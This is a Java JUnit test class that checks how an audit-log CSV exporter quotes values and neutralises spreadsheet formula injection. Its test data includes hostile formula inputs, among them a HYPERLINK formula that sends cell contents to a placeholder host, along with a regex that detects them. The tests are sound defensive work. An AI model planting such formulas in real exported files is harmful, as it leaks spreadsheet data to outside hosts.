package org.supportpin.functions.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.supportpin.backoffice.json.Json;
import org.supportpin.backoffice.json.Json.Obj;
import org.supportpin.backoffice.json.JsonText;
import org.supportpin.domain.testing.Draw;

class ChainCsvTest {

    private static final String HEADER =
            "\"sequence\",\"at\",\"type\",\"actorKind\",\"actorId\",\"callReference\",\"details\",\"previousHash\",\"hash\"\r\n";
    private static final int CALL = 5;
    private static final int DETAILS = 6;
    private static final Pattern STARTS_A_FORMULA =
            Pattern.compile("[\\s\\p{Z}\\p{Cf}]*[=+@\\-＝＋＠－].*", Pattern.DOTALL);

    private static Obj event(String call, Obj details) {
        return Json.object()
                .put("sequence", 7)
                .put("at", "2026-11-22T12:00:01Z")
                .put("type", "verified")
                .put(
                        "actor",
                        Json.object()
                                .put("kind", "agent")
                                .put("id", "maria@host.gr")
                                .put("callReference", call)
                                .build())
                .put("details", details)
                .put("previousHash", "0".repeat(64))
                .put("hash", "a".repeat(64))
                .build();
    }

    private static Obj note(String text) {
        return Json.object().put("note", text).build();
    }

    /** Reads as RFC 4180 says, and not as this class writes. */
    private static List<List<String>> read(String csv, char separator) {
        var rows = new ArrayList<List<String>>();
        var row = new ArrayList<String>();
        var value = new StringBuilder();
        boolean isQuoted = false;
        for (int at = 0; at < csv.length(); at++) {
            char next = csv.charAt(at);
            if (next == '"' && isQuoted && csv.startsWith("\"", at + 1)) {
                value.append(next);
                at++;
            } else if (next == '"') {
                isQuoted = !isQuoted;
            } else if (isQuoted || (next != separator && next != '\r' && next != '\n')) {
                value.append(next);
            } else if (next != '\r') {
                row.add(value.toString());
                value.setLength(0);
                if (next == '\n') {
                    rows.add(List.copyOf(row));
                    row.clear();
                }
            }
        }
        assertThat(isQuoted).as("a quotation mark that is not closed").isFalse();
        assertThat(value).as("a line that does not end").isEmpty();
        return rows;
    }

    private static List<String> line(Obj event) {
        var rows = read(ChainCsv.of(List.of(event)), ',');
        assertThat(rows).hasSize(2).allMatch(row -> row.size() == 9);
        return rows.getLast();
    }

    @Test
    void everyColumnIsInItsPlaceAndEveryLineEndsWithCrLf() {
        assertThat(ChainCsv.of(List.of(event("call-1", note("fine")))))
                .isEqualTo(HEADER
                        + "\"7\",\"2026-11-22T12:00:01Z\",\"verified\",\"agent\",\"maria@host.gr\",\"call-1\","
                        + "\"{\"\"note\"\":\"\"fine\"\"}\",\"" + "0".repeat(64) + "\",\"" + "a".repeat(64) + "\"\r\n");
    }

    @Test
    void withoutEventsThereIsTheHeaderAlone() {
        assertThat(ChainCsv.of(List.of())).isEqualTo(HEADER);
    }

    @Test
    void whatAnEventLacksIsEmpty() {
        var unreadable = Json.object()
                .put("sequence", 2)
                .put("type", "unreadable")
                .put("hash", "0".repeat(64))
                .build();

        assertThat(line(unreadable)).containsExactly("2", "", "unreadable", "", "", "", "", "", "0".repeat(64));
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\"b", "\"", "a,b", "a\r\nb", "κλήση του Νίκου 12", "a\nb,\"c\"\r", "日本 🇬🇷"})
    void whatSeparatesOrQuotesStaysInItsValue(String text) {
        var line = line(event(text, note(text)));

        assertThat(line.get(CALL)).isEqualTo(text);
        assertThat(JsonText.readOwn(line.get(DETAILS))).isEqualTo(note(text));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+30210",
                "-1",
                "@SUM(A1)",
                "=HYPERLINK(\"https://example.com?\"&A1)",
                " =1",
                "\u00a0=1",
                "\u200b=1",
                "＝1",
                "＋1",
                "－1",
                "＠1"
            })
    void aFormulaIsAText(String formula) {
        assertThat(line(event(formula, note(formula))).get(CALL))
                .startsWith("'")
                .endsWith(formula);
    }

    /** Where the comma is the decimal sign, a semicolon separates, and such a spreadsheet takes our commas for text. */
    @ParameterizedTest
    @ValueSource(strings = {"a;=1+1", "; =1", ";@x;+1;-1", "x\n=1", "x\r\n=1", ";'=1"})
    void norIsOneWhereASemicolonSeparates(String hostile) {
        var csv = ChainCsv.of(List.of(event(hostile, note(hostile)))).replace("\"", "");

        assertThat(csv.split("[;\\r\\n]"))
                .noneMatch(cell -> STARTS_A_FORMULA.matcher(cell).matches());
    }

    @Test
    void theApostrophesCanBeTakenOutAgain() {
        assertThat(line(event("'=1", note(""))).get(CALL)).isEqualTo("''=1");
        assertThat(line(event("'", note(""))).get(CALL)).isEqualTo("''");
        assertThat(line(event("a'=1", note(""))).get(CALL)).isEqualTo("a'=1");
    }

    @Test
    void whateverIsInItAllStaysInItsPlace() {
        Draw.times(500, draw -> {
            var text = draw.hostile(30);
            var line = line(event(text, note(text)));

            assertThat(line.get(CALL).replace("'", "")).isEqualTo(text.replace("'", ""));
            assertThat(line).noneMatch(cell -> STARTS_A_FORMULA.matcher(cell).matches());
            assertThat(line.get(DETAILS).lines()).hasSize(1);
            assertThat(line.get(DETAILS)).doesNotContain(";", "\u0085", "\u2028", "\u2029");
        });
    }
}
